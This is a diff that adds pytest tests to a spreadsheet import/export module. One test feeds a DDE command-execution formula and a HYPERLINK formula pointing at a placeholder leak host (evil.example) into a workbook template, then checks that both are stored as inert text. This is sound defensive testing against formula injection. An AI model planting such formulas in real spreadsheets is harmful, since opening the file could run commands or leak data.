@@ -7,7 +7,7 @@ import io
 from collections.abc import Iterator
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from data import data_calls, uploads
 from data.access import Gate
@@ -15,7 +15,7 @@ from data.errors import Forbidden, NotFound
 from data.input import InputError
 from data.models import Role
 from data.policy import Viewer
-from data.workbook import read_workbook
+from data.workbook import TemplateRow, read_workbook, template
 from metrics.registry import Registry
 from metrics.reporting import EntryState
 from tests.conftest import FIXTURES
@@ -121,3 +121,24 @@ def test_reading_stops_at_the_size_a_call_holds() -> None:
     book.save(out)
     [read] = read_workbook("big.xlsx", out.getvalue())
     assert read.truncated and len(read.rows) == 5000
+
+
+def test_the_template_writes_text_as_text_never_as_a_formula() -> None:
+    row = TemplateRow("581", "=cmd|' /C calc'!A0", "Appeals", "percent", "75%", "", 0.75, None, None,
+                      '=HYPERLINK("http://evil.example/?leak","Click")', "\x1fOld note", "")
+    sheet = load_workbook(io.BytesIO(template("Test", [row]))).active
+    assert sheet is not None
+    cells = {c.column_letter: c for c in sheet[4]}
+    assert cells["J"].data_type == "s" and cells["J"].value.startswith("=HYPERLINK")
+    assert cells["B"].data_type == "s" and cells["K"].value == "Old note"
+    assert cells["G"].value == 0.75
+
+
+def test_keys_match_whatever_their_case_and_long_notes_are_refused_not_cut(call: tuple[Gate, int]) -> None:
+    gate, call_id = call
+    text = "Measure ID,Value,Note\r\nPM_219,80%," + "x" * 4001 + "\r\nPM_217,90%,Fine.\r\n"
+    preview = uploads.pending(gate, LAW, call_id, uploads.preview(gate, LAW, call_id, "law.csv", text.encode()))
+    assert [c.metric_id for c in preview.changes] == ["pm_217"]
+    [refused] = preview.refusals
+    assert (refused.row, refused.column, refused.measure) == (2, "Note", "PM_219")
+    assert refused.reason == "Note: at most 4,000 characters (this one has 4,001)"
